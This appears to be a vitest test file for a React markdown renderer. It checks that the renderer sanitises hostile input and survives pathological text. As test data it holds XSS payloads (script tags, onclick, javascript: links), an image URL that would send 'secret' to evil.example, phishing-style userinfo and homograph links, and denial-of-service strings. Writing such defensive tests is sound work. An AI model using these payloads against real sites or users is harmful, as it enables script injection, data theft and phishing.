import { MantineProvider } from '@mantine/core'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, it } from 'vitest'
import { MarkdownText } from './markdown-text.tsx'

const drawn = (text: string, isGrowing = false) =>
  renderToStaticMarkup(createElement(MantineProvider, null, createElement(MarkdownText, { text, isGrowing }))).replace(
    /<style.*?<\/style>/s,
    '',
  )

it('draws headings, lists, tables, emphasis, notes and code as elements without ids', () => {
  const html = drawn(
    '# Steps\n\n1. **Plan** ~~late~~\n   - [x] `code`\n\n| a | b |\n| --- | --: |\n| 1 | 2 |\n\nSee[^n].\n\n[^n]: the *note*',
  )
  for (const part of ['<h2 dir="auto">Steps</h2>', '<strong>Plan</strong>', '<del>late</del>', '<code>code</code>'])
    expect(html).toContain(part)
  for (const part of ['aria-label="Done"', '<th dir="auto">a</th>', '<sup>n</sup>', 'the <em>note</em>'])
    expect(html).toContain(part)
  expect(html).not.toContain(' id="')
})

it.for([
  [
    'HTML',
    '<b onclick="x()">b</b> <script>x()</script>\n\n<iframe src="https://evil.example"></iframe>',
    /<(b|script|iframe)[ >]/,
  ],
  ['an image', '![seen](https://evil.example/?q=secret "t")', /<img|<picture/],
  [
    'an address that runs',
    '[a](javascript:alert(1)) [b](data:text/html,x) <javascript:alert(1)> [c](JaVaScRiPt:x)',
    /<a /,
  ],
  ['an address with a user', '[bank](https://bank.example@evil.example) <https://bank.example@evil.example>', /<a /],
  ['an address within this site', '[a](/account) [b](#x) [c](//evil.example) ![d](/me)', /<a /],
] as const)('makes no element of %s', ([, text, element]) => expect(drawn(text)).not.toMatch(element))

it('shows the host that a link or an image leads to, unless its words are the address', () => {
  expect(drawn('[https://bank.example](https://evil.example/x)')).toMatch(
    /<a href="https:\/\/evil\.example\/x" title="https:\/\/evil\.example\/x"[^>]*><bdi>https:\/\/bank\.example<\/bdi><span[^>]*> \(evil\.example\)/,
  )
  expect(drawn('[bank](https://b\u0430nk.example)')).toContain('(xn--bnk-6cd.example)')
  expect(drawn('![plan](https://evil.example/a.png)')).toMatch(/<bdi>plan<\/bdi><span[^>]*> \(evil\.example\)/)
  expect(drawn('https://b\u0430nk.example/in')).toMatch(/>https:\/\/xn--bnk-6cd\.example\/in<\/a>/)
  expect(drawn('see https://example.org/a.')).toMatch(/>https:\/\/example\.org\/a<\/a>\./)
})

it('shows no mark that has no end yet while more is to come, and shows it once the answer has ended', () => {
  for (const [text, growing] of [
    ['so **bo', 'so bo'],
    ['see [the docs](https://exa', 'see the docs'],
    ['and `co', 'and '],
  ] as const) {
    expect(drawn(text, true)).toContain(`>${growing}<`)
    expect(drawn(text)).not.toContain(`>${growing}<`)
  }
  expect(drawn('```js\nlet a', true)).toContain('let a</code>')
})

it('draws hostile text within bounded time, nesting and length', () => {
  const hostile = [
    '>'.repeat(20_000),
    '> - '.repeat(5000),
    '1. '.repeat(6000),
    Array.from({ length: 140 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
    `${'['.repeat(4000)}a${'](b)'.repeat(4000)}`,
    `${'!['.repeat(4000)}a${'](b)'.repeat(4000)}`,
    '*a**b'.repeat(4000),
    `| a | b |\n|---|---|\n${'| x | y |\n'.repeat(2000)}`,
    `|${' a |'.repeat(3000)}\n|${'-|'.repeat(3000)}\n`,
    '```\n'.repeat(4000),
    '<!--'.repeat(5000),
    `[^1]: a [^1]\n\n${'[^1]'.repeat(4000)}`,
    'word '.repeat(20_000),
    'x'.repeat(200_000),
  ]
  for (const text of hostile) {
    const began = performance.now()
    const html = drawn(text, true)
    expect(performance.now() - began, text.slice(0, 20)).toBeLessThan(5000)
    expect(Math.max(...depthsOf(html)), text.slice(0, 20)).toBeLessThan(150)
  }
})

function depthsOf(html: string): number[] {
  let depth = 0
  return Array.from(html.matchAll(/<(\/?)[a-z][^>]*?(\/?)>/g), ([, end, own]) => (depth += end ? -1 : own ? 0 : 1))
}
